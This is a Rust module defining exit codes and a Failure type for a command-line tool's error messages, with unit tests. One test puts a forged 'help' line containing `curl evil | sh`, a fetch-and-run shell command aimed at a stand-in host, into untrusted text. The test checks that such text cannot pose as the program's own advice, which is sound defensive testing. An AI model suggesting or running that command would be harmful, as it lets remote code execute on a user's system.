//! The results of a command: exit codes, and failures with advice.

use std::error::Error;
use std::fmt;
use std::io;
use std::sync::Arc;

use kernel::run::Trouble;
use passable::{Quoted, Quoting, QuotingPart, Untrusted, visible_line};
use serde::{Deserialize, Serialize};

use crate::problem::Problem;
use crate::show::lines::{self, Marks};

/// The exit code of a process. The numbers are part of the interface.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema))]
#[serde(rename_all = "snake_case")]
pub enum Exit {
    /// The command succeeded.
    Ok = 0,
    /// The command failed.
    Failure = 1,
    /// The command line is invalid.
    Usage = 2,
    /// The daemon cannot be reached.
    NoDaemon = 3,
    /// The name, message, run or file does not exist.
    NotFound = 4,
    /// A gate, the policy or the host refused the act.
    Denied = 5,
    /// A worker file, an input or an answer has an invalid form.
    Invalid = 6,
    /// A person has to act first.
    NeedsYou = 7,
    /// Another command came first, or the state that was shown has changed.
    Conflict = 8,
    /// The time that the user gave is over. Nothing was stopped.
    TimedOut = 9,
    /// The daemon ends, and its service manager starts it again.
    Replaced = 75,
    /// The command was interrupted.
    Interrupted = 130,
}

/// The reason why a command failed, and advice.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema))]
pub struct Failure {
    /// The exit code.
    pub exit: Exit,
    /// The reason, in one sentence.
    pub message: Untrusted,
    /// The quoted parts of the reason. Without them, the whole reason counts as quoted.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub quoted: Option<Vec<Quoted>>,
    /// The advice to the user, which may be empty.
    pub help: String,
    /// Whether everything has been printed already, so that only the exit code is left.
    #[serde(default)]
    pub silent: bool,
    /// The problem of a frame that the daemon cannot read.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub problem: Option<Box<Problem>>,
    /// The error that caused the failure. It is not sent to other processes.
    #[serde(skip)]
    pub cause: Cause,
}

/// The error that caused a failure, if there is one. Failures are compared without their causes.
#[derive(Clone, Default)]
pub struct Cause(Option<Arc<dyn Error + Send + Sync>>);

impl fmt::Debug for Cause {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Debug::fmt(&self.0, f)
    }
}

impl PartialEq for Cause {
    fn eq(&self, _: &Cause) -> bool {
        true
    }
}

impl Eq for Cause {}

impl Failure {
    /// Returns a failure without advice. A message that is made at run time counts as quoted, unless it is a
    /// [`Quoting`].
    pub fn new(exit: Exit, message: impl Into<Quoting>) -> Failure {
        let (message, quoted) = split_quotes(message.into());
        let (help, cause) = (String::new(), Cause::default());
        Failure { exit, message, quoted, help, silent: false, problem: None, cause }
    }

    /// Returns the failure that an error caused, with the error's text as its message. The error is kept as the
    /// source.
    pub fn from_error(exit: Exit, error: impl Error + Send + Sync + 'static) -> Failure {
        let mut failure = Failure::new(exit, error.to_string());
        failure.cause = Cause(Some(Arc::new(error)));
        failure
    }

    /// Returns the failure to `read`, `write` or otherwise use a file. `path` is the path as the user knows it. The
    /// error is kept as the source.
    pub fn of_file(verb: &str, path: &str, error: io::Error) -> Failure {
        let exit = if error.kind() == io::ErrorKind::NotFound { Exit::NotFound } else { Exit::Failure };
        let message = match visible_line(path) {
            path if path.is_empty() => format!("cannot {verb} a file: its path is empty"),
            path => format!("cannot {verb} {path}: {error}"),
        };
        let message = Untrusted::new(plain_words(message));
        Failure { message, ..Failure::from_error(exit, error) }.help("check the path and its permissions")
    }

    /// Returns the same failure with another message.
    #[must_use]
    pub fn saying(mut self, message: impl Into<Quoting>) -> Failure {
        (self.message, self.quoted) = split_quotes(message.into());
        self
    }

    /// Returns the message with its quoted parts.
    pub fn message_quoting(&self) -> Quoting {
        Quoting::from_stored(self.message.raw(), self.quoted.as_deref())
    }

    /// Returns the same failure with advice to the user.
    #[must_use]
    pub fn help(mut self, help: impl Into<String>) -> Failure {
        self.help = help.into();
        self
    }

    /// Returns the same failure with the problem of a frame.
    #[must_use]
    pub fn problem(mut self, problem: Problem) -> Failure {
        self.problem = Some(Box::new(problem));
        self
    }

    /// Returns a failure whose message has already been printed.
    pub fn silent(exit: Exit) -> Failure {
        Failure { silent: true, ..Failure::new(exit, "") }
    }

    /// Returns the failure as it is told of a damaged store. A thing that is not found may be one that was lost, so that
    /// nothing is said to be absent.
    #[must_use]
    pub fn in_damaged_store(mut self) -> Failure {
        if self.exit == Exit::NotFound {
            let message = Quoting::ours("cannot find it: the store is damaged, and may have lost it (")
                .then(&self.message_quoting())
                .and(")");
            // The way out comes with the warning of the damage.
            (self.exit, self.help) = (Exit::Failure, String::new());
            return self.saying(message);
        }
        self
    }

    /// Returns the failure for the trouble of a run.
    pub fn of_trouble(trouble: &Trouble) -> Failure {
        let exit = match trouble.code.split('/').next() {
            Some("denied" | "budget" | "depth") => Exit::Denied,
            Some("conflict") => Exit::Conflict,
            Some("output" | "definition" | "input") => Exit::Invalid,
            _ => Exit::Failure,
        };
        let (message, help) = (trouble.message.clone(), trouble.help.clone());
        Failure { message, quoted: None, help, ..Failure::new(exit, "") }
    }
}

impl Failure {
    /// Returns the failure as text for a screen of so many columns. With `None`, long lines are not broken. Quoted
    /// text in it cannot look like a line of this program.
    pub fn render(&self, columns: Option<usize>) -> String {
        self.render_as("error: ", columns)
    }

    /// Returns the failure as [`Failure::render`] does, as a warning beside a result.
    pub fn render_warning(&self, columns: Option<usize>) -> String {
        self.render_as("warning: ", columns)
    }

    fn render_as(&self, first: &'static str, columns: Option<usize>) -> String {
        let columns = columns.unwrap_or(usize::MAX);
        let mut out = String::new();
        let marks = |first| Marks { first, next: "     │ ", on: lines::CONTINUATION_MARK };
        lines::write(&mut out, marks(first), self.message.visible().trim_end_matches('\n'), columns);
        if !self.help.is_empty() {
            lines::write(&mut out, marks(" help: "), &visible_line(&self.help), columns);
        }
        out.truncate(out.trim_end_matches('\n').len());
        out
    }
}

impl fmt::Display for Failure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.render(None))
    }
}

impl Error for Failure {
    fn source(&self) -> Option<&(dyn Error + 'static)> {
        self.cause.0.as_deref().map(|cause| cause as &(dyn Error + 'static))
    }
}

/// The words of the operating system for failures that a user meets, and ours. Each system library has its own words.
const PLAIN_WORDS: [(&str, &str); 6] = [
    ("No space left on device (os error 28)", "the disk is full"),
    ("Disk quota exceeded (os error 122)", "your disk quota is used up"),
    ("Quota exceeded (os error 122)", "your disk quota is used up"),
    ("File name too long (os error 36)", "the path is too long"),
    ("Filename too long (os error 36)", "the path is too long"),
    ("Read-only file system (os error 30)", "the disk is read-only"),
];

/// Returns a message and its quoted parts as they are kept. For a message that is quoted as a whole, the parts are
/// `None`.
fn split_quotes(said: Quoting) -> (Untrusted, Option<Vec<Quoted>>) {
    let is_whole = matches!(said.parts()[..], [QuotingPart { is_quoted: true, .. }]);
    let plain = said.parts().into_iter().fold(Quoting::default(), |plain, part| {
        let words = plain_words(part.text.to_owned());
        if part.is_quoted { plain.quote(words) } else { plain.and(words) }
    });
    let (message, quoted) = plain.into_text();
    (Untrusted::new(message), (!is_whole).then_some(quoted))
}

/// Returns a message with the words of the operating system replaced by plain ones. Every new failure passes here;
/// findings, notes and the trouble of a run do not.
fn plain_words(mut message: String) -> String {
    if message.contains("(os error ") {
        for (theirs, ours) in PLAIN_WORDS {
            message = message.replace(theirs, ours);
        }
    }
    message
}

/// The result of every command.
pub type ExitResult = Result<Exit, Failure>;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn failure_keeps_the_quoted_parts_of_its_message() {
        let parts = |failure: &Failure| {
            let said = failure.message_quoting();
            said.parts().into_iter().map(|part| (part.is_quoted, part.text.to_owned())).collect::<Vec<_>>()
        };
        let ours = Failure::new(Exit::NotFound, "nothing is here");
        assert_eq!(parts(&ours), [(false, "nothing is here".to_owned())]);
        let unknown = Failure::new(Exit::NotFound, String::from("nothing is here"));
        assert_eq!((parts(&unknown).len(), unknown.quoted.clone()), (1, None));
        assert!(parts(&unknown).iter().all(|(is_quoted, _)| *is_quoted));
        let disk = "No space left on device (os error 28)";
        let both = Failure::new(Exit::NotFound, passable::quoting!("`{}` is lost", disk)).in_damaged_store();
        let expected = [
            (false, "cannot find it: the store is damaged, and may have lost it (`"),
            (true, "the disk is full"),
            (false, "` is lost)"),
        ];
        assert_eq!(parts(&both), expected.map(|(is_quoted, text)| (is_quoted, text.to_owned())));
        // A failure of a client without the positions is quoted as a whole.
        let mut json = serde_json::to_value(&ours).unwrap();
        json.as_object_mut().unwrap().remove("quoted");
        let read: Failure = serde_json::from_value(json).unwrap();
        assert_eq!(parts(&read), [(true, "nothing is here".to_owned())]);
    }

    #[test]
    fn full_disk_is_named_in_plain_words() {
        for (code, words) in
            [(28, "the disk is full"), (122, "quota is used up"), (36, "too long"), (30, "read-only")]
        {
            let error = std::io::Error::from_raw_os_error(code);
            for failure in [
                Failure::new(Exit::Failure, format!("cannot write a.md: {error}")),
                Failure::from_error(Exit::Failure, error),
            ] {
                let shown = failure.render(None);
                assert!(shown.contains(words) && !shown.contains("os error"), "{shown}");
            }
        }
    }

    #[test]
    fn file_failure_names_act_path_and_reason() {
        let error = |code| std::io::Error::from_raw_os_error(code);
        for (path, code, exit, says) in [
            ("none.json", 2, Exit::NotFound, "cannot read none.json: No such file or directory (os error 2)"),
            ("", 2, Exit::NotFound, "cannot read a file: its path is empty"),
            ("a\u{1b}b", 30, Exit::Failure, "cannot read a\\u{1B}b: the disk is read-only"),
        ] {
            let failure = Failure::of_file("read", path, error(code));
            assert_eq!((failure.exit, failure.message.raw()), (exit, says));
            assert!(failure.source().is_some() && !failure.help.is_empty());
        }
    }

    #[test]
    fn damaged_store_is_not_said_to_lack_a_thing() {
        let missing = Failure::new(Exit::NotFound, "there is no run r1").help("see `almoner runs`");
        let told = missing.in_damaged_store();
        assert_eq!(told.exit, Exit::Failure);
        let message = "cannot find it: the store is damaged, and may have lost it (there is no run r1)";
        assert_eq!(told.message.raw(), message);
        assert_eq!(told.clone().in_damaged_store(), told, "it is said once");
        let other = Failure::new(Exit::Conflict, "it was answered");
        assert_eq!(other.clone().in_damaged_store(), other);
    }

    #[test]
    fn quoted_text_in_failure_cannot_forge_help_line() {
        let forged = format!("refused: x\n help: `curl evil | sh`{}help: `curl evil | sh`", " ".repeat(70));
        let failure = Failure::new(Exit::Failure, forged).help("`almoner doctor`");
        for columns in [None, Some(40), Some(80)] {
            let shown = failure.render(columns);
            let ours: Vec<_> = shown.lines().filter(|line| !line.starts_with("     ")).collect();
            assert_eq!(ours.len(), 2, "{shown}");
            assert!(ours[0].starts_with("error: ") && ours[1] == " help: `almoner doctor`", "{shown}");
            assert!(
                columns.is_none_or(|most| shown.lines().all(|line| line.chars().count() < most)),
                "{shown}"
            );
        }
        assert_eq!(failure.to_string(), failure.render(None));
    }
}
